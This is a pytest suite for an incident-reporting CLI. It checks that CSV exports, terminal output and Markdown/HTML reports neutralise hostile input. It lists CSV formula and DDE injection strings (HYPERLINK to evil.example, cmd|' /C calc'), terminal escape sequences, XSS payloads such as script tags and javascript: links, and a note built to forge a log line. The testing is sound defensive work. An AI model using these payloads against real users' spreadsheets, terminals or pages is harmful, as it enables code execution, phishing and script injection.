"""Hostile data on the way out: CSV formulas, terminal escapes, Markdown HTML/links, and
notes that try to forge a line of the log. Each payload goes in the way an attacker
would put it in (a note, a roster name) and comes out where a person reads it."""

from __future__ import annotations

import csv
import io
import re
import shutil

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt
from test_report_walker import REPO, walk

from incident.cli import main
from incident.clock import ManualClock
from incident.config import load_settings
from incident.report import build_incident_report, render
from incident.runtime import Runtime
from incident.safetext import (
    TerminalGuard,
    csv_cell,
    guard_text,
    md_text,
    one_line,
    terminal,
)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'"]
READABLE = ["-5m00s", "-1h02m", "12", "-3.5", "+8613812345678", "T+4m05s", "B3-1201",
            "2026-01-05 03:00:00", "plain words", ""]
TERMINAL = ["\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
            "\x1b[8mhidden\x1b[0m", "\x9b2J", "a\rB", "\x1bP+q\x1b\\", "\u202eevil\u202c", "\x07\x08"]
MARKDOWN = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "[click me](javascript:alert(1))", "<javascript:alert(1)>",
            "![x](javascript:alert(1))", "[a]: javascript:alert(1)\n\n[a]"]


# ---- the sanitisers on their own ----------------------------------------------------

@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_cells_are_made_text(payload):
    assert csv_cell(payload) == "'" + payload.replace("\r", "\n")


def test_a_carriage_return_cannot_start_a_new_row():
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(["1", csv_cell("a\r=HYPERLINK(1)"), "x"])
    assert list(csv.reader(io.StringIO(buf.getvalue().replace("\n", "\r\n", 0)))) == \
        [["1", "a\n=HYPERLINK(1)", "x"]]


@pytest.mark.parametrize("value", [*READABLE, 42, -7, 3.25, None])
def test_numbers_durations_and_plain_text_are_left_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("payload", TERMINAL)
def test_terminal_text_has_no_control_codes(payload):
    out = terminal(f"note {payload} end")
    assert out.isprintable(), repr(out)
    assert out.startswith("note ") and out.endswith(" end")


def test_terminal_guard_keeps_click_colours_and_drops_the_rest():
    buf = io.StringIO()
    guard = TerminalGuard(buf)
    guard.write("\x1b[31mred\x1b[0m \x1b[2J\x1b]0;title\x07\x1b[8mhidden\x1b[0m\n")
    assert buf.getvalue() == "\x1b[31mred\x1b[0m hidden\x1b[0m\n"
    assert guard_text("line one\nline two\n") == "line one\nline two\n"


def test_multi_line_data_becomes_one_line():
    assert one_line("first\n  12  03:00:00  T+0m00s  system  Resolved") == \
        "first ⏎   12  03:00:00  T+0m00s  system  Resolved"
    assert "\n" not in terminal("a\r\nb\x85c\u2028d")


def _html(md: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(md)


@pytest.mark.parametrize("payload", MARKDOWN)
def test_markdown_text_cannot_make_html_or_links(payload):
    html = _html(f"Note: {md_text(payload)}\n")
    assert "<script" not in html and "<img" not in html
    assert "javascript:" not in re.sub(r">[^<]*<", "><", html)  # only as visible text
    assert "href" not in html


# ---- end to end -----------------------------------------------------------------------

@pytest.fixture
def hostile(tmp_path, sqlite_url):
    """The demo estate with every owner's name replaced by a formula, a runtime on it,
    and a fire incident walked through with hostile notes."""
    contacts = tmp_path / "contacts"
    shutil.copytree(REPO / "contacts", contacts)
    roster = contacts / "owners.csv"
    rows = list(csv.reader(io.StringIO(roster.read_text(encoding="utf-8-sig"))))
    name = rows[0].index("name")
    for r in rows[1:]:
        r[name] = '=HYPERLINK("http://evil.example","\x1b]0;pwned\x07Zhang")'
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    roster.write_text(buf.getvalue(), encoding="utf-8")
    settings = load_settings(database_url=sqlite_url, playbooks_dir=REPO / "playbooks",
                             contacts_dir=contacts, user="chen.jie")
    rt = Runtime(settings, clock=ManualClock())
    iid = walk(rt, "fire", resolve=False)
    for text in (*FORMULAS, *TERMINAL, *MARKDOWN,
                 "smoke\n   99  03:10:00  T+10m00s   system           Incident resolved"):
        rt.engine.note(iid, text, actor="chen.jie")
    yield rt, iid, contacts, sqlite_url
    rt.close()


def _cli(contacts, url, *args):
    res = CliRunner().invoke(main, ["--db", url, "--contacts", str(contacts), "--playbooks",
                                    str(REPO / "playbooks"), *args])
    assert res.exit_code == 0, res.output
    return res.output


def test_report_csv_has_no_live_formula(hostile):
    _rt, iid, contacts, url = hostile
    out = _cli(contacts, url, "report", iid, "--format", "csv")
    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff"))))
    cells = [c for r in rows[1:] for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.hms]+", c)]
    detail = rows[0].index("detail")
    details = [r[detail] for r in rows if r[7] == "note.added"]
    assert "Chen Jie noted: " + FORMULAS[0] in details  # a sentence: never read as a formula
    assert all(r[0].isdigit() for r in rows[1:])  # seq stays a number


def test_deliveries_csv_has_no_live_formula(hostile):
    _rt, iid, contacts, url = hostile
    out = _cli(contacts, url, "deliveries", iid, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    owners = [r for r in rows if r["person"].startswith("owner:")]
    assert owners, "the fire notice reaches owners"
    assert all(r["name"].startswith("'=HYPERLINK(") for r in owners)
    assert all(r["attempts"].isdigit() for r in rows)


def test_log_prints_no_escape_and_a_note_cannot_forge_a_line(hostile):
    rt, iid, contacts, url = hostile
    out = _cli(contacts, url, "log", iid)
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\r" not in out
    assert "\u202e" not in out
    lines = out.splitlines()
    assert len(lines) == len(rt.store.events(iid))
    assert not any(re.match(r"\s+99\s+03:10:00", line) for line in lines)
    assert any("smoke ⏎" in line for line in lines)


def test_status_list_and_contacts_show_print_no_escape(hostile):
    rt, iid, contacts, url = hostile
    rt.engine.handover(iid, "liu.yang", actor="chen.jie", reason="\x1b[2Jshift\nend")
    for args in (("status", iid), ("list",), ("contacts", "show", "owners", "building:B3",
                                              "--limit", "5")):
        out = _cli(contacts, url, *args)
        assert "\x1b" not in out and "\x07" not in out, args
    shown = _cli(contacts, url, "contacts", "show", "owners", "building:B3", "--limit", "5")
    assert 'HYPERLINK("http://evil.example","Zhang")' in shown  # the text, made inert


def test_markdown_report_renders_no_html_or_javascript_link(hostile):
    rt, iid, _contacts, _url = hostile
    md = render(build_incident_report(rt.store, rt.playbooks, rt.directory, iid,
                                      now=rt.clock.now(), lang="en"), "md")
    html = _html(md)
    assert "<script" not in html and "<img" not in html and "javascript:" not in \
        re.sub(r">[^<]*<", "><", html)
    assert "&lt;script&gt;" in md
    assert "\x1b" not in md
    notes = md.split("### Notes", 1)[1].split("\n## ", 1)[0]
    assert not any(line.lstrip().startswith("99") for line in notes.splitlines())


def test_html_report_escapes_the_same_payloads(hostile):
    rt, iid, _contacts, _url = hostile
    html = render(build_incident_report(rt.store, rt.playbooks, rt.directory, iid,
                                        now=rt.clock.now(), lang="en"), "html")
    assert "<script>alert" not in html and "<img src=x" not in html
    assert 'href="javascript:' not in html
